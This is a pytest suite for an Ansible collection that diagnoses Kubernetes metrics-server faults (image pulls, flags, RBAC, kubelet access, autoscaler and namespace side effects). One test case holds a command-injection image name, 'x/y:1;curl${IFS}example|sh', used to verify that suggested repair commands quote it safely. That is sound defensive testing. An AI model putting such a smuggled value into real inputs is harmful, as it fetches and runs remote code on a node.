# Copyright: the kubemetrics.aggregation maintainers
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Rules about the metrics server's pods, rights and flags (POD, KUB-05 to KUB-07) and what others suffer (CON).

The evidence of a fault was captured in the lab with the fault of the same id injected.
"""

from __future__ import annotations

import copy
import datetime
import json
from pathlib import Path

import pytest
from ansible_collections.kubemetrics.aggregation.plugins.plugin_utils.diagnosis import engine
from ansible_collections.kubemetrics.aggregation.plugins.plugin_utils.diagnosis.evidence import Evidence
from ansible_collections.kubemetrics.aggregation.plugins.plugin_utils.diagnosis.rules import (
    consequences,
    scrapes,
    server_pods,
)

CORPUS = Path(__file__).parents[2] / "corpus/evidence"
ROWS = {
    row.id: row
    for row in (*server_pods.ROWS, *scrapes.ROWS, *consequences.ROWS)
    # It has tests of its own.
    if row.id != "POD-03"
}
CAPTURED = sorted(path.stem for path in CORPUS.glob("*.json"))
#: What a fault brings with it, beside the Service without endpoints and what others suffer.
ALSO = {"POD-02": {"AGG-07"}}


def captured(name):
    return json.loads((CORPUS / f"{name}.json").read_text(encoding="utf-8"))


def healthy():
    return captured("healthy-1-1")


def observed(identifier, document):
    return list(ROWS[identifier].rule(Evidence(document)))


def pod_of(document):
    return document["api"]["objects"]["pods"][0]


@pytest.mark.parametrize("identifier", sorted(ROWS))
def test_evidence_of_its_fault_has_it_as_the_only_root(identifier):
    found = engine.diagnose(captured(identifier))
    assert [entry["id"] for entry in found["findings"] if entry["root"]] == [identifier]
    suffered = {entry["id"] for entry in found["findings"] if not entry["root"]}
    assert suffered <= {"AGG-12", "CON-01", "CON-02", "CON-03"} | ALSO.get(identifier, set())
    assert found["unexplained"] == []


@pytest.mark.parametrize("identifier", sorted(ROWS))
def test_a_healthy_cluster_has_no_finding(identifier):
    assert observed(identifier, healthy()) == []


@pytest.mark.parametrize("identifier", sorted(name for name in ROWS if not name.startswith("CON")))
@pytest.mark.parametrize("other", CAPTURED)
def test_evidence_of_another_fault_has_no_finding(identifier, other):
    if other != identifier:
        assert observed(identifier, captured(other)) == []


@pytest.mark.parametrize("identifier", sorted(ROWS))
def test_without_what_the_api_says_nothing_is_found(identifier):
    document = captured("api-down-1-1")
    assert observed(identifier, document) == []


@pytest.mark.parametrize("identifier", sorted(name for name in ROWS if not name.startswith("CON")))
def test_a_metrics_server_of_somebody_else_is_advised_on(identifier):
    document = captured(identifier)
    document["api"]["objects"]["workloads"][0]["owner"] = "the Helm release metrics-server in namespace kube-system"
    found = observed(identifier, document)
    assert {entry.repair.kind for entry in found} == {"advice"}
    assert all("Helm release metrics-server" in entry.repair.text and entry.repair.commands for entry in found)
    assert observed(identifier, captured(identifier))[0].repair is None


@pytest.mark.parametrize("identifier", ["POD-01", "POD-02", "POD-04", "POD-06"])
def test_beside_a_pod_that_serves_it_is_a_warning(identifier):
    document = captured(identifier)
    serving = {**copy.deepcopy(pod_of(healthy())), "name": "metrics-server-old"}
    document["api"]["objects"]["pods"].append(serving)
    assert {entry.severity for entry in observed(identifier, document)} == {"warning"}


@pytest.mark.parametrize(
    ("reason", "message", "cause"),
    [
        ("ErrImageNeverPull", 'Container image "x" is not present with pull policy of Never', "removed from the node"),
        ("ErrImagePull", "failed to resolve reference: dial tcp 192.0.2.1:443: i/o timeout", "does not reach"),
        ("ErrImagePull", "failed to pull and unpack image: not found", "its name or tag is wrong"),
        ("ErrImagePull", "failed to do request: x509: certificate signed by unknown authority", "does not trust"),
        ("ImagePullBackOff", "failed to pull: pull access denied, repository does not exist", "refuses"),
    ],
)
def test_why_an_image_is_not_pulled(reason, message, cause):
    document = captured("POD-01")
    pod = pod_of(document)
    pod["containers"][0]["state"] = {"kind": "waiting", "reason": reason, "message": ""}
    event = {"kind": "Pod", "name": pod["name"], "reason": "Failed", "message": message}
    document["api"]["objects"]["events"] = [event]
    assert cause in observed("POD-01", document)[0].cause


@pytest.mark.parametrize(
    ("image", "reason", "command"),
    [
        ("${REGISTRY}/metrics-server:v0.7.2", "ErrImagePull", "crictl pull '${REGISTRY}/metrics-server:v0.7.2'"),
        ("{name}/a:{}", "ErrImagePull", "crictl pull '{name}/a:{}'"),
        ("x/y:1;curl${IFS}example|sh", "ErrImagePull", "crictl pull 'x/y:1;curl${IFS}example|sh'"),
        ("r.example/a:1", "ErrImagePull", "crictl pull r.example/a:1"),
        ("{{ registry }}/a:1", "InvalidImageName", "kubectl --namespace kube-system edit deployment metrics-server"),
    ],
)
def test_names_of_images_are_no_part_of_a_command_s_form(image, reason, command):
    document = captured("POD-01")
    document["api"]["objects"]["workloads"][0]["owner"] = "somebody else"
    for container in pod_of(document)["containers"]:
        container["image"] = image
        container["state"].update(kind="waiting", reason=reason)
    (observation, *_rest) = observed("POD-01", document)
    assert any(image in line for line in observation.evidence)
    assert observation.repair.commands[0].partition("  #")[0] == command
    assert ("none that a runtime can read" in observation.cause) is (reason == "InvalidImageName")


def test_an_image_of_the_sandbox_is_named():
    document = captured("POD-01")
    pod = pod_of(document)
    pod["containers"][0]["state"] = {"kind": "waiting", "reason": "ContainerCreating"}
    message = 'Failed to create pod sandbox: failed to get sandbox image "registry.k8s.io/pause:3.10": i/o timeout'
    document["api"]["objects"]["events"] = [{"kind": "Pod", "name": pod["name"], "message": message}]
    assert "sandbox (pause)" in observed("POD-01", document)[0].cause


@pytest.mark.parametrize(
    ("line", "cause"),
    [
        (
            "panic: failed to create listener: failed to listen on 0.0.0.0:443: listen tcp 0.0.0.0:443: bind: "
            "permission denied",
            "below 1024",
        ),
        (
            "panic: failed to listen on 0.0.0.0:4443: listen tcp 0.0.0.0:4443: bind: address already in use",
            "Another process",
        ),
    ],
)
def test_why_it_cannot_listen(line, cause):
    document = captured("POD-06")
    pod_of(document)["log"] = [line]
    pod_of(document).pop("previous_log", None)
    assert cause in observed("POD-02", document)[0].cause


@pytest.mark.parametrize(
    "line",
    [
        "panic: metric-resolution should be a time duration at least 10s, but value 5s provided",
        "panic: metric-resolution should be larger than kubelet-request-timeout, but metric-resolution value 11s",
        "Error: cannot use both --kubelet-certificate-authority and --kubelet-insecure-tls",
        "Error: unknown flag: --metric_resolution",
        'Error: invalid argument "10" for "--metric-resolution" flag: time: missing unit in duration "10"',
    ],
)
def test_what_upstream_says_of_its_flags(line):
    document = captured("POD-06")
    pod_of(document)["log"] = [line]
    pod_of(document).pop("previous_log", None)
    assert line in observed("POD-06", document)[0].evidence[0]


def test_arguments_are_quoted_without_what_is_secret_in_them():
    document = captured("POD-06")
    for container in pod_of(document)["containers"]:
        container["args"] = ["-c", "exec /metrics-server --password hunter2secret", "--api-key=hunter2secret"]
    (observation, *_rest) = observed("POD-06", document)
    assert "hunter2secret" not in " ".join(observation.evidence)
    assert any("args: -c exec /metrics-server --password ********" in line for line in observation.evidence)


def test_what_upstream_prints_of_its_flags_when_it_ends_is_no_refusal():
    document = captured("POD-06")
    pod_of(document)["log"] = [
        "Error: failed to create listener: failed to listen on 0.0.0.0:10250: listen tcp: bind: address already in use",
        "Usage:",
        "   --metric-resolution duration   The resolution at which metrics are kept, must set value at least 10s.",
        "   --cert-dir string   The directory; it must be writable. cannot be used with --tls-cert-file",
        "panic: failed to create listener: failed to listen on 0.0.0.0:10250: listen tcp: bind: address already in use",
    ]
    pod_of(document).pop("previous_log", None)
    assert observed("POD-06", document) == []
    assert len(observed("POD-02", document)) == 1


def test_a_log_that_speaks_of_flags_is_nothing_while_the_server_runs():
    document = captured("POD-06")
    container = pod_of(document)["containers"][0]
    container["state"], container["last_state"] = {"kind": "running"}, {}
    assert observed("POD-06", document) == []


@pytest.mark.parametrize(
    ("finished", "restarts", "severity"),
    [
        ("2026-11-26T10:00:00Z", 1, None),
        ("2026-11-26T10:00:00Z", 5, "warning"),
        ("2026-11-26T11:50:00Z", 1, "warning"),
    ],
)
def test_a_server_that_serves_again_has_been_ended_for_memory(finished, restarts, severity):
    document = healthy()
    document["collected"]["at"] = "2026-11-26T12:00:00Z"
    container = pod_of(document)["containers"][0]
    container["last_state"] = {"kind": "terminated", "reason": "OOMKilled", "finished": finished}
    container["restarts"] = restarts
    assert [entry.severity for entry in observed("POD-07", document)] == ([severity] if severity else [])


def test_a_limit_that_a_nanny_sets_is_said():
    document = captured("POD-07")
    pod_of(document)["containers"].append({"name": "metrics-server-nanny"})
    assert "nanny" in observed("POD-07", document)[0].cause


def test_rights_of_an_account_that_serves_nothing_are_not_missed():
    """Before there is a metrics server, its account has no rights."""
    document = captured("POD-05")
    objects = document["api"]["objects"]
    objects["pods"], objects["workloads"] = [], []
    for review in objects["reviews"]:
        review["allowed"] = False
    assert [entry for identifier in ("POD-04", "POD-05", "KUB-05") for entry in observed(identifier, document)] == []


def test_users_without_the_role_for_metrics_are_a_warning():
    document = healthy()
    document["api"]["objects"]["roles"].update(aggregated_reader=False, view_reads_metrics=False)
    (found,) = observed("POD-05", document)
    assert (found.severity, found.evidence) == (
        "warning",
        ("ClusterRole system:aggregated-metrics-reader does not exist",),
    )


def test_a_kubelet_that_takes_the_server_for_nobody_needs_another_repair():
    document = healthy()
    kubelets = document["hosts"]["cp1"]["kubelets"]
    said = "Forbidden (user=system:anonymous, verb=get, resource=nodes, subresource(s)=[metrics])"
    kubelets[-1]["authenticated"] = {"status": 403, "message": said}
    (found,) = observed("KUB-05", document)
    assert found.hosts == (kubelets[-1]["node"],)
    assert (found.repair.kind, found.repair.steps) == ("consent", ("kubelet_access",))


def test_the_rule_that_is_added_by_hand_is_json():
    document = captured("KUB-05")
    document["api"]["objects"]["workloads"][0]["owner"] = "somebody else"
    command = observed("KUB-05", document)[0].repair.commands[-1]
    (change,) = json.loads(command.partition("--patch='")[2].rstrip("'"))
    assert change["value"]["resources"] == ["nodes/metrics"]


def test_an_adapter_of_prometheus_needs_no_kubelets():
    document = captured("KUB-05")
    objects = document["api"]["objects"]
    objects["workloads"][0]["name"] = pod_of(document)["name"] = "prometheus-adapter"
    pod_of(document)["containers"][0]["args"] = ["--secure-port=6443"]
    document["hosts"]["cp1"]["kubelets"] = []
    assert observed("KUB-05", document) == []


def test_a_kubelet_that_cannot_ask_is_advised_on():
    document = healthy()
    kubelet = document["hosts"]["cp1"]["kubelets"][0]
    said = "Authorization error (user=system:serviceaccount:kube-system:metrics-server, verb=get, resource=nodes)"
    kubelet["authenticated"] = {"status": 500, "message": said}
    (found,) = observed("KUB-05", document)
    assert found.repair.kind == "advice"


def test_an_old_server_needs_nodes_stats():
    document = captured("KUB-05")
    for review in document["api"]["objects"]["reviews"]:
        review["allowed"] = review["what"] != "server_nodes_stats"
    assert observed("KUB-05", document) == []
    said = "403 Forbidden (user=system:serviceaccount:kube-system:metrics-server, resource=nodes, subresource=stats)"
    pod_of(document)["log"] = [said]
    assert "may not get nodes/stats" in observed("KUB-05", document)[0].evidence[0]


def test_names_that_do_not_resolve_are_nothing_where_addresses_come_first():
    document = captured("KUB-07")
    pod_of(document)["containers"][0]["args"].append("--kubelet-preferred-address-types=InternalIP,Hostname")
    assert observed("KUB-07", document) == []


def test_flags_of_the_read_only_port_are_nothing_where_it_answers():
    document = healthy()
    pod_of(document)["containers"][0]["args"] += ["--kubelet-port=10255", "--deprecated-kubelet-completely-insecure"]
    assert observed("KUB-06", document) == []


# --- what others suffer ---

METRICS = {"name": "v1beta1.metrics.k8s.io", "reason": "MissingEndpoints", "message": "none", "owner": "kubemetrics"}
CUSTOM = {
    "name": "v1beta1.custom.metrics.k8s.io",
    "reason": "ServiceNotFound",
    "message": 'service/prometheus-adapter in "monitoring" is not present',
    "service": {"namespace": "monitoring", "name": "prometheus-adapter"},
    "service_exists": False,
    "owner": "the Helm release prometheus-adapter in namespace monitoring",
}
STUCK = {
    "name": "team",
    "conditions": [
        {
            "type": "NamespaceDeletionDiscoveryFailure",
            "status": "True",
            "reason": "DiscoveryFailed",
            "message": "Discovery failed for some groups, 1 failing",
        }
    ],
}


def suffering(**parts):
    document = healthy()
    document["api"]["objects"].update(parts)
    return document


def test_what_the_metrics_api_brings_about_is_no_cause():
    (found,) = observed("CON-01", suffering(namespaces=[STUCK], apiservices_unavailable=[METRICS]))
    assert (found.independent, found.repair) == (False, None)


def test_another_api_is_a_cause_of_its_own():
    (found,) = observed("CON-01", suffering(namespaces=[STUCK], apiservices_unavailable=[METRICS, CUSTOM]))
    assert found.independent
    assert "Helm release prometheus-adapter" in found.cause
    assert "kubectl delete apiservice v1beta1.custom.metrics.k8s.io" in found.repair.commands


def test_an_api_whose_service_is_there_is_not_to_be_deleted():
    there = {**CUSTOM, "service_exists": True}
    (found,) = observed("CON-02", suffering(apiservices_unavailable=[there]))
    assert not any("delete" in command for command in found.repair.commands)


def test_a_namespace_that_waits_for_something_else_is_none_of_ours():
    waiting = {"name": "team", "conditions": [{**STUCK["conditions"][0], "type": "NamespaceContentRemaining"}]}
    assert observed("CON-01", suffering(namespaces=[waiting], apiservices_unavailable=[CUSTOM])) == []
    # The condition is that of the last attempt: every API answers again.
    assert observed("CON-01", suffering(namespaces=[STUCK])) == []


def autoscaler(message, lacking=()):
    condition = {"type": "ScalingActive", "status": "False", "reason": "FailedGetResourceMetric", "message": message}
    return {
        "namespace": "team",
        "name": "shop",
        "target": {"kind": "Deployment", "name": "shop"},
        "conditions": [condition],
        "containers_without_requests": list(lacking),
    }


def test_a_workload_without_requests_is_a_warning_for_its_owner():
    document = suffering(autoscalers=[autoscaler("missing request for cpu in container shop of Pod x", ["shop: cpu"])])
    (found,) = observed("CON-03", document)
    assert (found.severity, found.independent) == ("warning", True)
    assert found.repair.commands == (
        "kubectl --namespace team set resources deployment shop --containers=shop --requests=cpu=100m",
    )


def test_a_pod_of_another_workload_may_lack_the_request():
    document = suffering(autoscalers=[autoscaler("missing request for cpu in container sidecar of Pod other-1")])
    assert "another workload with the same labels" in observed("CON-03", document)[0].cause


@pytest.mark.parametrize(
    "message",
    [
        "unable to fetch metrics from resource metrics API: the server is currently unable to handle the request",
        "no metrics returned from resource metrics API",
        "did not receive metrics for targeted pods (pods might be unready)",
    ],
)
def test_an_autoscaler_is_no_fault_of_an_api_that_answers(message):
    assert observed("CON-03", suffering(autoscalers=[autoscaler(message)])) == []


def test_a_pod_that_was_created_just_now_is_said_to_be_so():
    document = json.loads((CORPUS / "POD-01.json").read_text())
    collected = datetime.datetime.fromisoformat(document["collected"]["at"].replace("Z", "+00:00"))
    pods = [pod for pod in document["api"]["objects"]["pods"] if not pod["ready"]]

    def said(seconds):
        for pod in pods:
            pod["created"] = (collected - datetime.timedelta(seconds=seconds)).strftime("%Y-%m-%dT%H:%M:%SZ")
        return [notice for notice in engine.diagnose(document)["notices"] if notice.startswith("Created within")]

    assert pods and said(120) == []
    names = ", ".join(pod["name"] for pod in pods)
    assert said(6) == [
        f"Created within the last minute, and not ready yet: {names}. Where nothing else explains what is seen, run "
        "doctor again in a minute."
    ]


def test_an_autoscaler_that_was_not_judged_yet_is_unknown():
    fresh = {**autoscaler(""), "metrics": ["cpu"], "conditions": [{"type": "AbleToScale", "status": "True"}]}
    found = engine.diagnose(suffering(autoscalers=[fresh]))
    assert (found["verdict"], found["unknown"]) == (
        "well",
        [
            "Whether team/shop can scale: Kubernetes has not said yet whether metrics serve this autoscaler. "
            "Run doctor again in a minute."
        ],
    )
    # That of another metric is no matter of this API.
    assert engine.diagnose(suffering(autoscalers=[{**fresh, "metrics": ["Pods"]}]))["unknown"] == []


def test_an_autoscaler_that_waits_for_samples_is_a_notice():
    found = engine.diagnose(suffering(autoscalers=[autoscaler("no metrics returned from resource metrics API")]))
    assert (found["verdict"], found["notices"]) == (
        "well",
        ["Autoscalers whose pods do not run, or have no sample yet: team/shop."],
    )
